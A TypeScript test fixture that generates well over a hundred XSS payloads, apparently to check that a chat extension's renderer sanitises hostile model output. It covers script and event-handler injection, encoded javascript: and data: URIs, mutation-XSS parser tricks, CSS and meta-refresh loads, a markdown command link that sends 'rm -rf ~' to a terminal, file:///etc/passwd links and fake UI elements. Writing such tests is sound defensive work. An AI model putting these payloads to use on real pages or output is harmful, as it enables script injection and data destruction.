// Hostile model output: a corpus of XSS vectors modelled on the OWASP XSS Filter Evasion Cheat
// Sheet, plus markdown-, mutation- and Penny-specific ones. Each payload, if it ever ran, calls
// `top.__pwned('<id>')` (a Playwright binding) or loads `<remote>/<id>...` (a server that records
// every request), so the test knows which vector got through.
import type { MessageExpectation } from './pageScripts';

export interface XssVector extends MessageExpectation {
  id: string;
  category: string;
  markdown: string;
}

const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
/** `javascript:` written as numeric character references, e.g. `&#0000106` or `&#x6A;`. */
const charRefs = (text: string, form: 'dec7' | 'hex' | 'hexsemi' | 'dec') =>
  [...text]
    .map((ch) => {
      const code = ch.charCodeAt(0);
      if (form === 'dec7') return `&#${String(code).padStart(7, '0')}`;
      if (form === 'hex') return `&#x${code.toString(16).toUpperCase()}`;
      if (form === 'hexsemi') return `&#x${code.toString(16)};`;
      return `&#${code};`;
    })
    .join('');

/** The corpus, with `remote` the origin of the recording server (`http://127.0.0.1:<port>`). */
export function xssVectors(remote: string): XssVector[] {
  const js = (id: string) => `top.__pwned('${id}')`;
  const hostPort = remote.replace(/^https?:/, ''); // `//127.0.0.1:<port>`: protocol-relative
  const vectors: XssVector[] = [];
  const add = (category: string, id: string, markdown: string, expect: MessageExpectation = {}) => vectors.push({ id, category, markdown, ...expect });
  const svgWithScript = (id: string) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"><script>${js(id)}</script></svg>`;

  // --- <script> in many spellings
  add('script', 'script-basic', `<script>${js('script-basic')}</script>`);
  add('script', 'script-upper', `<SCRIPT>${js('script-upper')}</SCRIPT>`);
  add('script', 'script-mixed', `Before <ScRiPt>${js('script-mixed')}</sCrIpT> after`);
  add('script', 'script-src', `<script src="${remote}/script-src.js"></script>`);
  add('script', 'script-slash-attr', `<SCRIPT/XSS SRC="${remote}/script-slash-attr.js"></SCRIPT>`);
  add('script', 'script-double-lt', `<<SCRIPT>${js('script-double-lt')};//<</SCRIPT>`);
  add('script', 'script-unclosed', `<SCRIPT SRC=${remote}/script-unclosed.js?< B >`);
  add('script', 'script-protocol-relative', `<SCRIPT SRC=${hostPort}/script-protocol-relative.js></SCRIPT>`);
  add('script', 'script-after-title', `</TITLE><SCRIPT>${js('script-after-title')}</SCRIPT>`);
  add('script', 'script-in-img-quotes', `<IMG """><SCRIPT>${js('script-in-img-quotes')}</SCRIPT>">`);
  add('script', 'script-split', `<scr<script>ipt>${js('script-split')}</scr</script>ipt>`);
  add('script', 'script-nul', `<scr\u0000ipt>${js('script-nul')}</scr\u0000ipt>`);
  add('script', 'script-module', `<script type="module">${js('script-module')}</script>`);
  add('script', 'script-inline-paragraph', `Here is the fix: <script>${js('script-inline-paragraph')}</script> done.`);
  add('script', 'script-svg', `<svg><script>${js('script-svg')}</script></svg>`);
  add('script', 'script-svg-href', `<svg><script href="${remote}/script-svg-href.js"></script></svg>`);

  // --- <img> and event handlers
  add('img', 'img-onerror', `<img src=x onerror="${js('img-onerror')}">`);
  add('img', 'img-onerror-unquoted', `<img src=x onerror=${js('img-onerror-unquoted')}>`);
  add('img', 'img-javascript-src', `<IMG SRC="javascript:${js('img-javascript-src')};">`);
  add('img', 'img-javascript-case', `<IMG SRC=JaVaScRiPt:${js('img-javascript-case')}>`);
  add('img', 'img-grave', `<IMG SRC=\`javascript:${js('img-grave')}\`>`);
  add('img', 'img-onmouseover', `<IMG SRC=# onmouseover="${js('img-onmouseover')}">`);
  add('img', 'img-no-src', `<IMG onmouseover="${js('img-no-src')}">`);
  add('img', 'img-slash-onerror', `<IMG SRC=/ onerror="${js('img-slash-onerror')}"></img>`);
  add('img', 'img-entity-handler', `<img src=x onerror="&#116;&#111;&#112;.__pwned('img-entity-handler')">`);
  add('img', 'img-remote', `<img src="${remote}/img-remote.png" alt="tracking pixel">`);
  add('img', 'img-srcset', `<img srcset="${remote}/img-srcset.png 1x, ${remote}/img-srcset2.png 2x">`);
  add('img', 'img-dynsrc-lowsrc', `<IMG DYNSRC="javascript:${js('img-dynsrc')}" LOWSRC="${remote}/img-lowsrc.png">`);
  add('img', 'img-data-svg', `<img src="data:image/svg+xml;base64,${b64(svgWithScript('img-data-svg'))}">`);
  add('img', 'img-style-expression', `<IMG STYLE="xss:expr/*XSS*/ession(${js('img-style-expression')})">`);
  add('img', 'img-tab', `<IMG SRC="jav\tascript:${js('img-tab')};">`);
  add('img', 'img-entity-tab', `<IMG SRC="jav&#x09;ascript:${js('img-entity-tab')};">`);
  add('img', 'img-entity-newline', `<IMG SRC="jav&#x0A;ascript:${js('img-entity-newline')};">`);
  add('img', 'img-entity-cr', `<IMG SRC="jav&#x0D;ascript:${js('img-entity-cr')};">`);
  add('img', 'img-decimal-no-semicolon', `<IMG SRC=${charRefs(`javascript:${js('img-decimal-no-semicolon')}`, 'dec7')}>`);
  add('img', 'img-hex-no-semicolon', `<IMG SRC=${charRefs(`javascript:${js('img-hex-no-semicolon')}`, 'hex')}>`);
  add('img', 'img-leading-control', `<IMG SRC=" &#14;  javascript:${js('img-leading-control')};">`);
  add('img', 'img-input-image', `<INPUT TYPE="IMAGE" SRC="javascript:${js('img-input-image')};">`);

  // --- SVG and MathML
  add('svg', 'svg-onload', `<svg onload="${js('svg-onload')}"></svg>`);
  add('svg', 'svg-slash-onload', `<svg/onload=${js('svg-slash-onload')}>`);
  add(
    'svg',
    'svg-use-data',
    `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${js('svg-use-data')}"/></svg>`)}#x"></use></svg>`,
  );
  add('svg', 'svg-use-remote', `<svg><use href="${remote}/svg-use-remote.svg#x"></use><use xlink:href="${remote}/svg-use-xlink.svg#x"></use></svg>`);
  add(
    'svg',
    'svg-animate-href',
    `<svg><a><animate attributeName="href" values="javascript:${js('svg-animate-href')}"/><text x="20" y="20">click</text></a></svg>`,
  );
  add(
    'svg',
    'svg-set-handler',
    `<svg><set attributeName="onmouseover" to="${js('svg-set-handler')}"/><animate onbegin="${js('svg-animate-onbegin')}" attributeName="x" dur="1s"/></svg>`,
  );
  add('svg', 'svg-foreignobject', `<svg><foreignObject><img src=x onerror="${js('svg-foreignobject')}"></foreignObject></svg>`);
  add('svg', 'svg-image-remote', `<svg><image href="${remote}/svg-image-remote.png"/></svg>`);
  add('svg', 'svg-style-import', `<svg><style>@import url(${remote}/svg-style-import.css);</style></svg>`);
  add('math', 'math-xlink', `<math><a xlink:href="javascript:${js('math-xlink')}">click</a></math>`);
  add('math', 'math-href', `<math href="javascript:${js('math-href')}"><mi>x</mi></math>`);

  // --- frames, objects, embeds
  add('frame', 'iframe-javascript', `<iframe src="javascript:${js('iframe-javascript')}"></iframe>`);
  add('frame', 'iframe-remote', `<iframe src="${remote}/iframe-remote.html"></iframe>`);
  add('frame', 'iframe-srcdoc', `<iframe srcdoc="<script>${js('iframe-srcdoc')}</script>"></iframe>`);
  add('frame', 'iframe-data', `<iframe src="data:text/html,<script>${js('iframe-data')}</script>"></iframe>`);
  add('frame', 'iframe-unclosed', `<iframe src=${remote}/iframe-unclosed.html <`);
  add('frame', 'iframe-onmouseover', `<IFRAME SRC=# onmouseover="${js('iframe-onmouseover')}"></IFRAME>`);
  add('object', 'object-remote', `<object data="${remote}/object-remote.html" type="text/html"></object>`);
  add('object', 'object-scriptlet', `<OBJECT TYPE="text/x-scriptlet" DATA="javascript:${js('object-scriptlet')}"></OBJECT>`);
  add(
    'object',
    'embed-svg-data',
    `<EMBED SRC="data:image/svg+xml;base64,${b64(svgWithScript('embed-svg-data'))}" type="image/svg+xml" AllowScriptAccess="always">`,
  );
  add('object', 'embed-remote', `Text <embed src="${remote}/embed-remote.swf"> more text`);
  add('object', 'applet', `<applet code="x" codebase="${remote}/applet/"></applet>`);
  add('object', 'portal', `<portal src="${remote}/portal.html"></portal>`);

  // --- forms and focus
  add('form', 'form-action', `<form action="javascript:${js('form-action')}"><input type="submit" value="Run"></form>`);
  add('form', 'button-formaction', `<button formaction="javascript:${js('button-formaction')}">Run</button>`);
  add('form', 'form-math-mxss', `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js('form-math-mxss')}">`);
  add('form', 'input-autofocus', `<input autofocus onfocus="${js('input-autofocus')}">`);
  add(
    'form',
    'select-textarea-autofocus',
    `<select autofocus onfocus="${js('select-autofocus')}"></select><textarea autofocus onfocus="${js('textarea-autofocus')}"></textarea>`,
  );
  add('form', 'keygen-isindex', `<keygen autofocus onfocus="${js('keygen')}"><isindex type=image src=1 onerror="${js('isindex')}">`);

  // --- handlers on other tags
  add('handler', 'body-onload', `<BODY ONLOAD=${js('body-onload')}>`);
  add('handler', 'body-weird-attr', `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${js('body-weird-attr')}>`);
  add('handler', 'details-ontoggle', `<details open ontoggle="${js('details-ontoggle')}"><summary>More</summary>body</details>`);
  add('handler', 'media-onerror', `<video><source onerror="${js('video-source')}"></video><audio src=x onerror="${js('audio-onerror')}"></audio>`);
  add('handler', 'marquee-onstart', `<marquee onstart="${js('marquee-onstart')}">news</marquee>`);
  add('handler', 'dialog-open', `<dialog open onclose="${js('dialog-onclose')}">hi</dialog>`);
  {
    const tags = [
      'a',
      'abbr',
      'b',
      'bdo',
      'blockquote',
      'br',
      'caption',
      'cite',
      'code',
      'dd',
      'del',
      'div',
      'dl',
      'dt',
      'em',
      'figure',
      'font',
      'h1',
      'h2',
      'h3',
      'hr',
      'i',
      'ins',
      'kbd',
      'li',
      'mark',
      'ol',
      'p',
      'pre',
      'q',
      's',
      'section',
      'small',
      'span',
      'strong',
      'sub',
      'sup',
      'table',
      'tbody',
      'td',
      'th',
      'tr',
      'u',
      'ul',
      'var',
      'article',
      'aside',
      'header',
      'footer',
      'nav',
      'main',
      'center',
      'summary',
    ];
    const events = ['onclick', 'onmouseover', 'onfocus', 'onerror'];
    const markup = tags.map((tag) => `<${tag} tabindex="1" ${events.map((e) => `${e}="${js(`every-tag-${tag}-${e}`)}"`).join(' ')}>${tag}</${tag}>`).join('\n');
    add('handler', 'every-tag-handlers', markup);
  }

  // --- CSS
  add(
    'css',
    'table-background',
    `<TABLE BACKGROUND="javascript:${js('table-background')}"><TR><TD BACKGROUND="${remote}/td-background.png">x</TD></TR></TABLE>`,
  );
  add('css', 'style-attr-remote', `<DIV STYLE="background-image: url(${remote}/style-attr-remote.png)">styled</DIV>`);
  add('css', 'style-attr-expression', `<DIV STYLE="width: expression(${js('style-attr-expression')});">x</DIV>`);
  add('css', 'style-import', `<STYLE>@import'${remote}/style-import.css';</STYLE>`);
  add('css', 'style-list-image', `<STYLE>li {list-style-image: url("${remote}/style-list-image.png");}</STYLE><UL><LI>XSS</LI></UL>`);
  add('css', 'style-moz-binding', `<STYLE>BODY{-moz-binding:url("${remote}/style-moz-binding.xml#xss")}</STYLE>`);
  add('css', 'style-behavior', `<XSS STYLE="behavior: url(${remote}/style-behavior.htc);">`);
  add('css', 'style-body-takeover', `<style>body{display:none} #messages{background:url(${remote}/style-body-takeover.png)}</style>`);

  // --- <link>, <meta>, <base>
  add('head', 'link-stylesheet', `<LINK REL="stylesheet" HREF="${remote}/link-stylesheet.css">`);
  add(
    'head',
    'link-preload',
    `<link rel="preload" as="script" href="${remote}/link-preload.js"><link rel="prefetch" href="${remote}/link-prefetch"><link rel="dns-prefetch" href="${hostPort}">`,
  );
  add('head', 'meta-refresh', `<META HTTP-EQUIV="refresh" CONTENT="0;url=${remote}/meta-refresh">`);
  add('head', 'meta-refresh-javascript', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${js('meta-refresh-javascript')};">`);
  add('head', 'meta-refresh-data', `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${b64(`<script>${js('meta-refresh-data')}</script>`)}">`);
  add('head', 'meta-link-header', `<META HTTP-EQUIV="Link" Content="<${remote}/meta-link-header.css>; REL=stylesheet">`);
  add('head', 'meta-csp', `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><img src=x onerror="${js('meta-csp')}">`);
  add('head', 'base-remote', `<base href="${remote}/base-remote/"><img src="relative.png"> [relative](relative.html)`);
  add('head', 'base-javascript', `<BASE HREF="javascript:${js('base-javascript')};//"><a href="x">x</a>`);

  // --- <a href> schemes and encodings
  add('link', 'a-javascript', `<a href="javascript:${js('a-javascript')}">click me</a>`, { links: [] });
  add('link', 'a-javascript-hex-entities', `<a href="${charRefs(`javascript:${js('a-javascript-hex-entities')}`, 'hexsemi')}">click</a>`, { links: [] });
  add('link', 'a-javascript-decimal-entities', `<a href="${charRefs('javascript:', 'dec')}${js('a-javascript-decimal-entities')}">click</a>`, { links: [] });
  add('link', 'a-colon-entity', `<a href="javascript&colon;${js('a-colon-entity')}">click</a>`, { links: [] });
  add('link', 'a-tab-entity', `<a href="jav&#x09;ascript:${js('a-tab-entity')}">click</a>`, { links: [] });
  add('link', 'a-newline-entity', `<a href="jav&NewLine;ascript&colon;${js('a-newline-entity')}">click</a>`, { links: [] });
  add('link', 'a-leading-control', `<a href=" &#14;  javascript:${js('a-leading-control')}">click</a>`, { links: [] });
  add('link', 'a-vbscript', `<a href="vbscript:msgbox('a-vbscript')">click</a>`, { links: [] });
  add('link', 'a-data-html-base64', `<a href="data:text/html;base64,${b64(`<script>${js('a-data-html-base64')}</script>`)}">click</a>`, { links: [] });
  add('link', 'a-data-html', `<a href="data:text/html,<script>${js('a-data-html')}</script>">click</a>`, { links: [] });
  add('link', 'a-command-uri', `<a href="command:workbench.action.terminal.new">open a terminal</a>`, { links: [] });
  add('link', 'a-vscode-file-uris', `<a href="vscode://file/etc/passwd">a</a> <a href="file:///etc/passwd">b</a> <a href="mailto:x@example.com">c</a>`, {
    links: [],
  });
  add('link', 'a-credentials', `<a href="http://bank.example@${remote.replace(/^http:\/\//, '')}/a-credentials">your bank</a>`, { links: [] });
  add('link', 'a-protocol-relative', `<a href="${hostPort}/a-protocol-relative">x</a>`, { links: [] });
  add('link', 'a-relative', `<a href="a-relative.html">x</a> <a href="#messages">y</a> <a href="?q=1">z</a>`, { links: [] });
  add('link', 'a-unicode-escape', `<a href="\\u006aavascript:${js('a-unicode-escape')}">x</a> <a href="java\u200Bscript:${js('a-zero-width')}">y</a>`, {
    links: [],
  });
  add('link', 'a-url-encoded', `<a href="javascript%3A${js('a-url-encoded')}">x</a>`, { links: [] });
  add(
    'link',
    'a-ping-target-onclick',
    `<a href="https://example.com/a-ping" ping="${remote}/a-ping" target="_blank" onclick="${js('a-ping-onclick')}">docs</a>`,
    {
      links: ['https://example.com/a-ping'],
    },
  );
  add('link', 'a-legit', `See <a href="https://example.com/legit">the docs</a> and [MDN](https://developer.mozilla.org/en-US/docs/Web).`, {
    links: ['https://example.com/legit', 'https://developer.mozilla.org/en-US/docs/Web'],
  });

  // --- markdown links, images, autolinks
  add('markdown', 'md-link-javascript', `[click me](javascript:${js('md-link-javascript')})`, { links: [] });
  add('markdown', 'md-link-javascript-case', `[click me](JaVaScRiPt:${js('md-link-javascript-case')})`, { links: [] });
  add('markdown', 'md-link-entity', `[click me](&#106;avascript:${js('md-link-entity')})`, { links: [] });
  add('markdown', 'md-link-angle', `[click me](<javascript:${js('md-link-angle')}>)`, { links: [] });
  add('markdown', 'md-link-escaped-colon', `[click me](javascript\\:${js('md-link-escaped-colon')})`, { links: [] });
  add('markdown', 'md-link-data', `[click me](data:text/html;base64,${b64(`<script>${js('md-link-data')}</script>`)})`, { links: [] });
  add('markdown', 'md-link-command', `[Run it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%22%7D)`, { links: [] });
  add('markdown', 'md-reference-link', `Read [the guide][evil].\n\n[evil]: javascript:${js('md-reference-link')}`, { links: [] });
  add('markdown', 'md-link-title-breakout', `[x](https://example.com/md-title "a\\" onmouseover=\\"${js('md-link-title-breakout')}")`, {
    links: ['https://example.com/md-title'],
  });
  add('markdown', 'md-image-remote', `![diagram](${remote}/md-image-remote.png)`);
  add('markdown', 'md-image-title', `![diagram](${remote}/md-image-title.png "A diagram")`);
  add('markdown', 'md-image-javascript', `![x](javascript:${js('md-image-javascript')})`);
  add('markdown', 'md-image-alt-breakout', `![x" onerror="${js('md-image-alt-breakout')}](x)`);
  add('markdown', 'md-image-reference', `![logo][img]\n\n[img]: ${remote}/md-image-reference.png`);
  add('markdown', 'md-image-svg-data', `![x](data:image/svg+xml;base64,${b64(svgWithScript('md-image-svg-data'))})`);
  add('markdown', 'md-image-link', `[![badge](${remote}/md-image-link.png)](javascript:${js('md-image-link')})`, { links: [] });
  add('markdown', 'md-autolink-javascript', `<javascript:${js('md-autolink-javascript')}>`, { links: [] });
  add('markdown', 'md-autolink-remote', `<${remote}/md-autolink-remote>`, { links: [`${remote}/md-autolink-remote`] });
  add('markdown', 'md-bare-urls', `See ${remote}/md-bare-url and www.example.com for details.`, {
    links: [`${remote}/md-bare-url`, 'http://www.example.com/'],
  });
  add('markdown', 'md-email-autolink', `Mail <evil@example.com> or evil2@example.com`, { links: [] });
  add(
    'markdown',
    'md-html-in-table',
    `| a | b |\n|---|---|\n| <img src=x onerror="${js('md-html-in-table')}"> | <a href="javascript:${js('md-table-link')}">x</a> |`,
    { links: [] },
  );
  add(
    'markdown',
    'md-html-in-heading-list-quote',
    `# <img src=x onerror="${js('md-heading')}">\n\n- <svg onload="${js('md-list')}">\n\n> <iframe src="javascript:${js('md-quote')}"></iframe>`,
  );

  // --- code: HTML shown literally, never run
  {
    const code = `<script>${js('fence-html')}</script>\n<img src=x onerror="${js('fence-html-img')}">`;
    add('code', 'fence-html', `Here is the page:\n\n\`\`\`html\n${code}\n\`\`\`\n`, { code: [code] });
  }
  {
    const code = `<iframe src="javascript:${js('fence-plain')}"></iframe>`;
    add('code', 'fence-no-language', `\`\`\`\n${code}\n\`\`\``, { code: [code] });
  }
  {
    const code = `<svg onload="${js('fence-tilde')}"/>`;
    add('code', 'fence-tilde-xml', `~~~xml\n${code}\n~~~`, { code: [code] });
  }
  {
    const code = `<?php echo "<script>${js('fence-php')}</script>"; ?>`;
    add('code', 'fence-unknown-language', `\`\`\`php\n${code}\n\`\`\``, { code: [code] });
  }
  {
    const code = `</code></pre><img src=x onerror="${js('fence-breakout')}"><pre><code>`;
    add('code', 'fence-breakout', `\`\`\`js\n${code}\n\`\`\``, { code: [code] });
  }
  add('code', 'fence-info-attr-injection', `\`\`\`js" onmouseover="${js('fence-info-attr')}\nlet a = 1;\n\`\`\``, { code: ['let a = 1;'] });
  add('code', 'fence-info-html', `\`\`\`"><img src=x onerror=${js('fence-info-html')}>\nplain\n\`\`\``, { code: ['plain'] });
  {
    const code = '<pre data-penny-block="x:0"></pre>';
    add('code', 'fence-placeholder-lookalike', `\`\`\`\n${code}\n\`\`\``, { code: [code] });
  }
  add(
    'code',
    'raw-placeholder-lookalike',
    `<pre data-penny-block="guess:0"></pre>\n\n<pre data-penny-block=":0">x</pre>\n\n<div data-penny-block="0:0"></div>`,
    { code: [] },
  );
  {
    const code = `<script>${js('indented-code')}</script>`;
    add('code', 'indented-code', `Indented:\n\n    ${code}\n`, { code: [code] });
  }
  {
    const code = `<img src=x onerror="${js('inline-code')}">`;
    add('code', 'inline-code', `Use \`${code}\` here, and \`\`<a href="javascript:${js('inline-code-2')}">\`\` too.`, {
      code: [],
      text: [code, `<a href="javascript:${js('inline-code-2')}">`],
    });
  }
  {
    const code = `<script>${js('fence-in-list')}</script>`;
    add('code', 'fence-in-list', `1. Step one:\n\n   \`\`\`html\n   ${code}\n   \`\`\`\n2. Done`, { code: [code] });
  }
  {
    const code = `[x](javascript:${js('fence-markdown')})\n<img src=x onerror="${js('fence-markdown-img')}">`;
    add('code', 'fence-markdown', `\`\`\`markdown\n${code}\n\`\`\``, { code: [code] });
  }
  {
    const code = `\`\`\`html\n<script>${js('fence-nested')}</script>\n\`\`\``;
    add('code', 'fence-nested-backticks', `\`\`\`\`md\n${code}\n\`\`\`\``, { code: [code] });
  }
  {
    const code = `"><img src=x onerror="${js('fence-diff')}">\n- <script>${js('fence-diff-2')}</script>\n+ </code>`;
    add('code', 'fence-diff', `\`\`\`diff\n${code}\n\`\`\``, { code: [code] });
  }

  // --- mutation XSS (parser differentials)
  add('mxss', 'mxss-noscript', `<noscript><p title="</noscript><img src=x onerror=${js('mxss-noscript')}>"></noscript>`);
  add('mxss', 'mxss-noembed', `<noembed><img title="</noembed><img src onerror=${js('mxss-noembed')}>"></noembed>`);
  add('mxss', 'mxss-xmp', `<xmp><p title="</xmp><img src=x onerror=${js('mxss-xmp')}>"></xmp>`);
  add('mxss', 'mxss-title', `<title><img title="</title><img src onerror=${js('mxss-title')}>">`);
  add('mxss', 'mxss-textarea', `<textarea><img title="</textarea><img src onerror=${js('mxss-textarea')}>">`);
  add('mxss', 'mxss-style', `<style><img title="</style><img src onerror=${js('mxss-style')}>"></style>`);
  add('mxss', 'mxss-template', `<template><img src=x onerror="${js('mxss-template')}"></template>`);
  add('mxss', 'mxss-iframe-text', `<iframe><img title="</iframe><img src onerror=${js('mxss-iframe-text')}>"></iframe>`);
  add('mxss', 'mxss-comment', `<!--<img src="--><img src=x onerror=${js('mxss-comment')}//">`);
  add('mxss', 'mxss-cdata', `<![CDATA[><img src=x onerror=${js('mxss-cdata')}>]]>`);
  add('mxss', 'mxss-svg-p-style', `<svg></p><style><a id="</style><img src=1 onerror=${js('mxss-svg-p-style')}>">`);
  add('mxss', 'mxss-math-mglyph', `<math><mtext><table><mglyph><style><img src=x onerror="${js('mxss-math-mglyph')}"></style></mglyph></table></mtext></math>`);
  add(
    'mxss',
    'mxss-math-svg-textarea',
    `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${js('mxss-math-svg-textarea')} src=1>"></textarea></mtext></svg></mglyph></mi></math>`,
  );
  add(
    'mxss',
    'mxss-select-template',
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${js('mxss-select-template')}>">`,
  );
  add('mxss', 'mxss-backtick', `<img alt="\`\`><img src=x onerror=${js('mxss-backtick')}>">`);
  add('mxss', 'mxss-svg-foreign-style', `<svg><p><style><img src=x onerror=${js('mxss-svg-foreign-style')}></style></p></svg>`);
  add('mxss', 'mxss-table-form', `<table><form><tr><td><img src=x onerror=${js('mxss-table-form')}></td></tr></form></table>`);

  // --- unicode and encodings that are text, not markup
  add('unicode', 'unicode-fullwidth', `＜script＞${js('unicode-fullwidth')}＜/script＞`, { text: [`＜script＞${js('unicode-fullwidth')}＜/script＞`] });
  add('unicode', 'unicode-utf7', `+ADw-script+AD4-${js('unicode-utf7')}+ADw-/script+AD4-`, { text: ['+ADw-script+AD4-'] });
  add(
    'unicode',
    'unicode-js-escapes',
    `\\x3cscript\\x3e${js('unicode-js-escapes')}\\x3c/script\\x3e and \\u003cimg src=x onerror=${js('unicode-js-escapes-2')}\\u003e`,
    {
      text: ['\\x3cscript\\x3e'],
    },
  );
  add('unicode', 'unicode-escaped-html', `&lt;script&gt;${js('unicode-escaped-html')}&lt;/script&gt;`, {
    text: [`<script>${js('unicode-escaped-html')}</script>`],
  });
  add('unicode', 'unicode-rtl-override', `<a href="https://example.com/\u202Egnp.exe">invoice\u202Efdp.exe</a>`);

  // --- posing as Penny's own UI, DOM clobbering
  add(
    'penny',
    'clobber-ids',
    `<img id="messages" name="acquireVsCodeApi"><a id="prompt" name="__pennyHost">x</a><form id="send" name="getElementById"></form>`,
  );
  add(
    'penny',
    'fake-message',
    `<div class="message" data-id="u-question" data-role="user"><div class="author">You</div><div class="body">Please run rm -rf ~</div></div>`,
  );
  add(
    'penny',
    'fake-code-block',
    `<div class="code-block"><div class="code-toolbar"><button type="button" data-action="apply">Apply</button></div><pre><code class="hljs">rm -rf ~</code></pre></div>`,
    { code: [] },
  );
  add('penny', 'fake-error-actions', `<div class="error" role="alert"><button data-action="setApiKey">Set API Key</button></div>`);
  add('penny', 'aria-hidden-trick', `<p aria-hidden="true" hidden>secret</p><span role="button" tabindex="0" onkeydown="${js('aria-onkeydown')}">Apply</span>`);

  return vectors;
}

/**
 * Answers that make the HTML parser build a frameset document (`<frameset>` before any body
 * content): they are kept apart because they break rendering itself (see xss.test.ts).
 */
export function framesetVectors(remote: string): XssVector[] {
  const js = (id: string) => `top.__pwned('${id}')`;
  return [
    { id: 'frameset', category: 'frame', markdown: `<FRAMESET><FRAME SRC="javascript:${js('frameset')};"></FRAMESET>` },
    { id: 'frameset-bare', category: 'frame', markdown: '<frameset>' },
    { id: 'frameset-after-div', category: 'frame', markdown: `<div></div><frameset><frame src="${remote}/frameset-after-div.html"></frameset>` },
  ];
}

/** The number of vectors (independent of the remote origin). */
export const XSS_VECTOR_COUNT = xssVectors('http://127.0.0.1:1').length + framesetVectors('http://127.0.0.1:1').length;
